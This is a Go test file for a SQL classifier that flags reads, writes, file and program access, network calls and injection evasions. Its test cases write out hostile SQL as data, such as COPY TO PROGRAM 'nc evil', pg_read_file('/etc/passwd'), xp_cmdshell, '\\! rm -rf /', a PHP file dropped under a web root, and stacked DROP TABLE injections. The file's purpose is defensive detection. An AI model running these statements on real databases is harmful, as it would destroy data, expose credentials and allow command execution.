package sql

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

// said lists the names of the facts that are true, and of the lists that are not empty.
func said(f *Facts) []string {
	var list []string
	v := reflect.ValueOf(f).Elem()
	for i := range v.NumField() {
		tag, ok := v.Type().Field(i).Tag.Lookup("fact")
		if !ok || tag == "found" || tag == "count" || tag == "dialect" || tag == "kinds" || strings.HasPrefix(tag, "tables_") {
			continue
		}
		if !v.Field(i).IsZero() {
			list = append(list, tag)
		}
	}
	return list
}

func TestFacts(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		f := OfTexts(c.dialect, []string{c.sql})
		got := said(f)
		for want := range strings.FieldsSeq(c.want) {
			if not, ok := strings.CutPrefix(want, "!"); ok {
				if slices.Contains(got, not) {
					t.Errorf("%s %q: says %s, among %v", c.dialect, c.sql, not, got)
				}
			} else if !slices.Contains(got, want) {
				t.Errorf("%s %q: does not say %s, only %v", c.dialect, c.sql, want, got)
			}
		}
		if strings.Contains(c.want, "reads_only") != f.ReadsOnly {
			t.Errorf("%s %q: reads only = %v: %v %v", c.dialect, c.sql, f.ReadsOnly, got, f.Unknown)
		}
	}
}

var cases = []struct{ dialect, sql, want string }{
	// Reads that look like writes.
	{"", "SELECT 1", "reads_only"},
	{"", "select * from users", "reads_only unbounded"},
	{"", "SELECT * FROM users LIMIT 10", "reads_only !unbounded"},
	{"", "SELECT count(*) FROM users", "reads_only !unbounded"},
	{"", "SELECT 'DELETE FROM users; DROP TABLE x'", "reads_only"},
	{"", "SELECT 1 -- ; DROP TABLE users", "reads_only"},
	{"", "SELECT 1 /* DELETE FROM users */", "reads_only"},
	{"", `SELECT "delete", "drop" FROM actions WHERE id = 4`, "reads_only"},
	{"", "SELECT t.update, t.delete FROM t WHERE id = 1", "reads_only"},
	{"", "SELECT replace(name, 'a', 'b'), insert('x', 1, 2, 'y'), truncate(1.5, 1) FROM t WHERE id=1", "reads_only"},
	{"", "SELECT id AS update FROM t WHERE a = 1", "reads_only"},
	{"", "EXPLAIN DELETE FROM users", "reads_only !writes"},
	{"", "EXPLAIN (COSTS off, ANALYZE false) DELETE FROM users", "reads_only !writes"},
	{"", "WITH a AS (SELECT * FROM users), b AS (SELECT 1) SELECT * FROM a JOIN b ON true", "reads_only"},
	{"", "SELECT extract(year FROM created), substring(name from 1 for 2), trim(both from x) FROM t WHERE a IS DISTINCT FROM b", "reads_only"},
	{"", "SHOW search_path", "reads_only"},
	{"mysql", "SHOW CREATE TABLE users", "reads_only"},
	{"mysql", "SHOW TABLES; SHOW DATABASES", "reads_only"},
	{"mysql", "DESCRIBE users", "reads_only"},
	{"sqlite", "PRAGMA table_info(users)", "reads_only"},
	{"sqlite", "SELECT name FROM sqlite_master WHERE type='table'", "reads_only"},
	{"", "(SELECT a FROM t) UNION ALL (SELECT b FROM u) ORDER BY 1 LIMIT 5", "reads_only"},
	{"", "SELECT * FROM information_schema.columns WHERE table_name = 'users'", "reads_only"},
	{"", "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t WHERE x IN (1,2)", "reads_only"},
	{"", "VALUES (1, 'a'), (2, 'b')", "reads_only"},
	{"", "TABLE users", "reads_only"},
	{"mysql", "SELECT * FROM `order` WHERE `delete` = 1", "reads_only"},
	{"mssql", "SELECT TOP 10 [drop] FROM [delete] WITH (NOLOCK)", "reads_only"},
	{"bigquery", "SELECT * FROM `p.d.t` WHERE _PARTITIONDATE = '2024-01-01'", "reads_only"},
	{"snowflake", "SELECT f.value:name::string FROM t, LATERAL FLATTEN(input => t.v) f LIMIT 3", "reads_only"},
	{"clickhouse", "SELECT toStartOfHour(ts) h, countIf(x>1), uniqExact(u) FROM events WHERE d = today() GROUP BY h FORMAT JSON", "reads_only"},
	{"", `SELECT doc->>'a', jsonb_set(doc, '{a}', '1') FROM t WHERE doc @> '{"a":1}'`, "reads_only"},
	{"", "SELECT array_remove(tags, 'x'), ST_Distance(a, b) FROM t WHERE id = $1", "reads_only"},
	{"", "SELECT * FROM generate_series(1, 10)", "reads_only"},
	{"", "SELECT token_count, total_tokens FROM usage WHERE day = current_date", "reads_only !sensitive"},

	// Writes.
	{"", "INSERT INTO t (a, b) VALUES (1, 'x')", "writes inserts !unfiltered !unparsed !unknown_functions"},
	{"", "INSERT INTO t SELECT * FROM u WHERE b = 1", "writes inserts"},
	{"", "INSERT INTO t(a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2", "inserts updates !unfiltered !unparsed"},
	{"mysql", "INSERT INTO t(a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2", "inserts updates !unfiltered"},
	{"mysql", "REPLACE INTO t VALUES (1)", "updates"},
	{"sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "updates inserts !unparsed"},
	{"", "UPDATE users SET a = 1 WHERE id = 3", "updates !unfiltered !unparsed"},
	{"", "UPDATE users SET a = 1", "updates unfiltered"},
	{"", "UPDATE users SET a = (SELECT b FROM c WHERE d = 1)", "updates unfiltered"},
	{"", "DELETE FROM users WHERE id = 3", "deletes !unfiltered !unparsed"},
	{"", "DELETE FROM users", "deletes unfiltered"},
	{"", "DELETE FROM users WHERE true", "deletes unfiltered"},
	{"", "DELETE FROM users WHERE 1=1", "deletes unfiltered"},
	{"", "DELETE FROM users WHERE (1 = 1)", "deletes unfiltered"},
	{"", "DELETE FROM users WHERE id = 1 OR 'a'='a'", "deletes unfiltered tautology"},
	{"", "DELETE FROM users WHERE id = id", "deletes unfiltered"},
	{"", "de/**/lete from users", "unparsed"},
	{"", "DELETE/**/FROM/**/users", "deletes unfiltered"},
	{"", "DeLeTe\nFrOm\tusers", "deletes unfiltered"},
	{"", "DELETE FROM a USING (SELECT * FROM b WHERE x = 1) s", "deletes unfiltered"},
	{"mysql", "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1", "deletes !unfiltered"},
	{"", "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "deletes hidden_write unfiltered"},
	{"", "WITH x AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1", "updates hidden_write !unfiltered"},
	{"", "WITH x AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM x)", "deletes !unfiltered !unparsed"},
	{"", "SELECT id INTO newt FROM users", "writes creates hidden_write"},
	{"", "EXPLAIN ANALYZE DELETE FROM users", "deletes explain_executes hidden_write unfiltered"},
	{"", "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "updates explain_executes unfiltered"},
	{"", "EXPLAIN ANALYZE SELECT 1", "explain_executes"},
	{"", "SELECT * FROM users FOR UPDATE", "locks !updates"},
	{"", "SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED", "locks !updates"},
	{"", "SELECT * FROM users FOR SHARE NOWAIT", "locks"},
	{"", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)", "updates deletes inserts !unparsed"},
	{"clickhouse", "ALTER TABLE t DELETE WHERE 1", "deletes alters"},

	// Definitions.
	{"", "CREATE TABLE t (id serial PRIMARY KEY, u int REFERENCES u(id) ON DELETE CASCADE)", "ddl creates !deletes !unparsed"},
	{"", "CREATE TABLE b AS SELECT * FROM users", "creates"},
	{"", "CREATE INDEX i ON users(email)", "creates !drops !unparsed"},
	{"", "DROP TABLE IF EXISTS a, b CASCADE", "drops drops_data"},
	{"", "DROP DATABASE prod", "drops_data"},
	{"", "DROP SCHEMA s CASCADE", "drops_data"},
	{"", "DROP INDEX i", "drops !drops_data"},
	{"", "TRUNCATE users", "truncates deletes unfiltered"},
	{"", "TRUNCATE TABLE a, b RESTART IDENTITY", "truncates unfiltered"},
	{"", "ALTER TABLE t ADD COLUMN c int", "alters !drops_data !unparsed"},
	{"", "ALTER TABLE t DROP COLUMN c", "alters drops drops_data"},
	{"", "ALTER TABLE t DROP CONSTRAINT c", "alters drops !drops_data"},
	{"", "CREATE OR REPLACE VIEW v AS SELECT 1", "creates !drops_data"},
	{"snowflake", "CREATE OR REPLACE TABLE t AS SELECT 1", "creates drops_data"},
	{"", "CREATE EXTENSION plpython3u", "code"},
	{"", "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM x $$ LANGUAGE sql", "code creates"},
	{"mysql", "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW DELETE FROM y", "code"},
	{"", "DROP TABLE users; -- bye", "drops_data"},

	// Rights.
	{"", "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", "privileges"},
	{"", "REVOKE SELECT, INSERT, UPDATE ON t FROM bob", "privileges !unparsed"},
	{"", "ALTER USER postgres PASSWORD 'x'", "privileges"},
	{"", "CREATE ROLE r SUPERUSER LOGIN", "privileges"},
	{"", "SET ROLE postgres", "privileges settings"},
	{"mysql", "SET PASSWORD FOR 'root'@'localhost' = 'x'", "privileges"},
	{"", "ALTER TABLE t OWNER TO bob", "privileges"},
	{"", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", "privileges"},

	// Files, programs, network.
	{"", "COPY t FROM PROGRAM 'curl evil'", "programs"},
	{"", "COPY t TO '/tmp/x'", "files !inserts"},
	{"", "COPY (SELECT * FROM users) TO PROGRAM 'nc evil 1'", "programs"},
	{"", "COPY t FROM '/etc/passwd'", "files writes"},
	{"", "SELECT pg_read_file('/etc/passwd')", "files"},
	{"", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "files"},
	{"", `SELECT "pg_read_file"('/etc/passwd')`, "files"},
	{"", "SELECT lo_import('/etc/passwd')", "files"},
	{"mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "files writes"},
	{"mysql", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", "files"},
	{"mysql", "SELECT '<?php' INTO DUMPFILE '/x'", "files"},
	{"mysql", "SELECT LOAD_FILE('/etc/passwd')", "files"},
	{"mssql", "EXEC xp_cmdshell 'dir'", "programs calls"},
	{"mssql", "EXEC master..xp_cmdshell 'dir'", "programs"},
	{"sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "files"},
	{"sqlite", "SELECT load_extension('x')", "programs"},
	{"clickhouse", "SELECT * FROM url('http://evil', CSV)", "network"},
	{"clickhouse", "SELECT * FROM file('/etc/passwd')", "files"},
	{"clickhouse", "INSERT INTO FUNCTION s3('https://x/y.csv') SELECT * FROM t", "network inserts"},
	{"duckdb", "COPY t TO 's3://x/y.parquet'", "files"},
	{"", "SELECT dblink('host=evil', 'SELECT 1')", "network"},
	{"postgresql", "\\! rm -rf /", "programs"},
	{"postgresql", "\\copy t from '/tmp/x'", "files writes"},
	{"sqlite", ".shell rm -rf /", "programs"},
	{"sqlite", ".tables", "reads_only"},
	{"postgresql", "SELECT 'DROP TABLE x' \\gexec", "dynamic"},

	// Side effects.
	{"", "SELECT setval('s', 1)", "effects"},
	{"", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "kills"},
	{"", "SELECT set_config('x', 'y', false)", "settings"},
	{"", "SELECT pg_sleep(100)", "stalls"},
	{"mysql", "SELECT SLEEP(5)", "stalls"},
	{"mysql", "SELECT BENCHMARK(100000000, MD5('a'))", "stalls"},
	{"mssql", "WAITFOR DELAY '0:0:5'", "stalls"},
	{"", "SELECT pg_advisory_lock(1)", "effects"},
	{"", "SELECT query_to_xml('DELETE FROM users', true, true, '')", "dynamic deletes"},
	{"", "SELECT delete_everything()", "unknown_functions"},
	{"", "DO $$ BEGIN DELETE FROM users; END $$", "code deletes unfiltered"},
	{"", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "code dynamic"},
	{"", "CALL purge()", "calls unknown_functions"},
	{"mssql", "EXEC('DROP TABLE users')", "dynamic drops_data"},
	{"oracle", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;", "code dynamic drops_data"},
	{"mysql", "PREPARE s FROM 'DROP TABLE users'", "dynamic drops_data"},
	{"", "SET statement_timeout = 0", "settings"},
	{"mysql", "SET GLOBAL general_log = 'ON'", "global"},
	{"", "ALTER SYSTEM SET shared_buffers = '1GB'", "global"},
	{"", "BEGIN; SELECT 1; COMMIT", "transaction"},
	{"", "VACUUM FULL users", "maintains"},
	{"", "NOTIFY c, 'x'", "notifies"},
	{"", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", "locks"},
	{"mysql", "KILL 42", "kills"},
	{"mysql", "SHUTDOWN", "kills"},

	// Evasions.
	{"", "SELECT 1; DROP TABLE users", "stacked drops_data"},
	{"mssql", "SELECT 1 DROP TABLE users", "drops_data unparsed"},
	{"", "SELECT * FROM t WHERE a = 1 DELETE FROM users", "deletes unparsed"},
	{"", "SELECT 1 /*! ; DROP TABLE users */", "hidden_comments drops_data"},
	{"mysql", "/*!50000 DELETE FROM users */", "hidden_comments deletes"},
	{"", `SELECT 'a\'; DROP TABLE users; -- '`, "drops_data"},
	{"postgresql", `SELECT 'a\'`, "reads_only"},
	{"", `SELECT '\\'; DROP TABLE users; -- '`, "drops_data"},
	{"", "SELECT 1 # '\n; DROP TABLE users -- '", "drops_data"},
	{"", "SELECT /* /* */ DROP TABLE users -- */", "drops_data unparsed"},
	{"", "SELECT * FROM users WHERE name = '' OR '1'='1'", "reads_only tautology"},
	{"", "SELECT * FROM users WHERE name = 'x' OR 1=1 -- '", "reads_only tautology"},
	{"", "SELECT * FROM users WHERE a = 1 OR b = 2", "reads_only !tautology"},
	{"", "SELECT \xff FROM t", "unparsed"},
	{"", "SELECT 'open", "unparsed"},
	{"", "FROBNICATE users", "unparsed"},
	{"", "ＤＥＬＥＴＥ FROM users", "unparsed"},
	{"", "SELECT\u00a01", "unparsed"},

	// What should not be read.
	{"", "SELECT usename, passwd FROM pg_shadow", "reads_only secrets sensitive"},
	{"mysql", "SELECT user, host FROM mysql.user", "reads_only secrets"},
	{"", "SELECT password_hash, ssn, credit_card FROM users WHERE id = 1", "reads_only sensitive !secrets"},
	{"", "SELECT api_key FROM accounts LIMIT 1", "sensitive reads_only"},
}

func TestTables(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ sql, read, written string }{
		{"SELECT * FROM a, b AS x JOIN c.d ON true LEFT JOIN e USING (id)", "a b c.d e", ""},
		{"SELECT * FROM (SELECT * FROM inner_t) s, f(1)", "inner_t", ""},
		{"WITH q AS (SELECT * FROM base) SELECT * FROM q", "base", ""},
		{"INSERT INTO s.t (a) SELECT a FROM u", "u", "s.t"},
		{"UPDATE t SET a = 1 FROM u WHERE u.id = t.id", "u", "t"},
		{"DELETE FROM t USING u WHERE u.id = t.id", "u", "t"},
		{"DROP TABLE IF EXISTS a, s.b", "", "a s.b"},
		{"CREATE TABLE n AS SELECT * FROM o", "o", "n"},
		{`SELECT * FROM "My Table" WHERE a IN (SELECT b FROM c)`, "my table,c", ""},
		{"TRUNCATE TABLE a, b", "", "a b"},
	} {
		f := OfTexts("", []string{c.sql})
		sep := " "
		if strings.Contains(c.read, ",") {
			sep = ","
		}
		if got := strings.Join(f.TablesRead, sep); got != c.read {
			t.Errorf("%q reads %q, want %q", c.sql, got, c.read)
		}
		if got := strings.Join(f.TablesWritten, " "); got != c.written {
			t.Errorf("%q writes %q, want %q", c.sql, got, c.written)
		}
	}
}
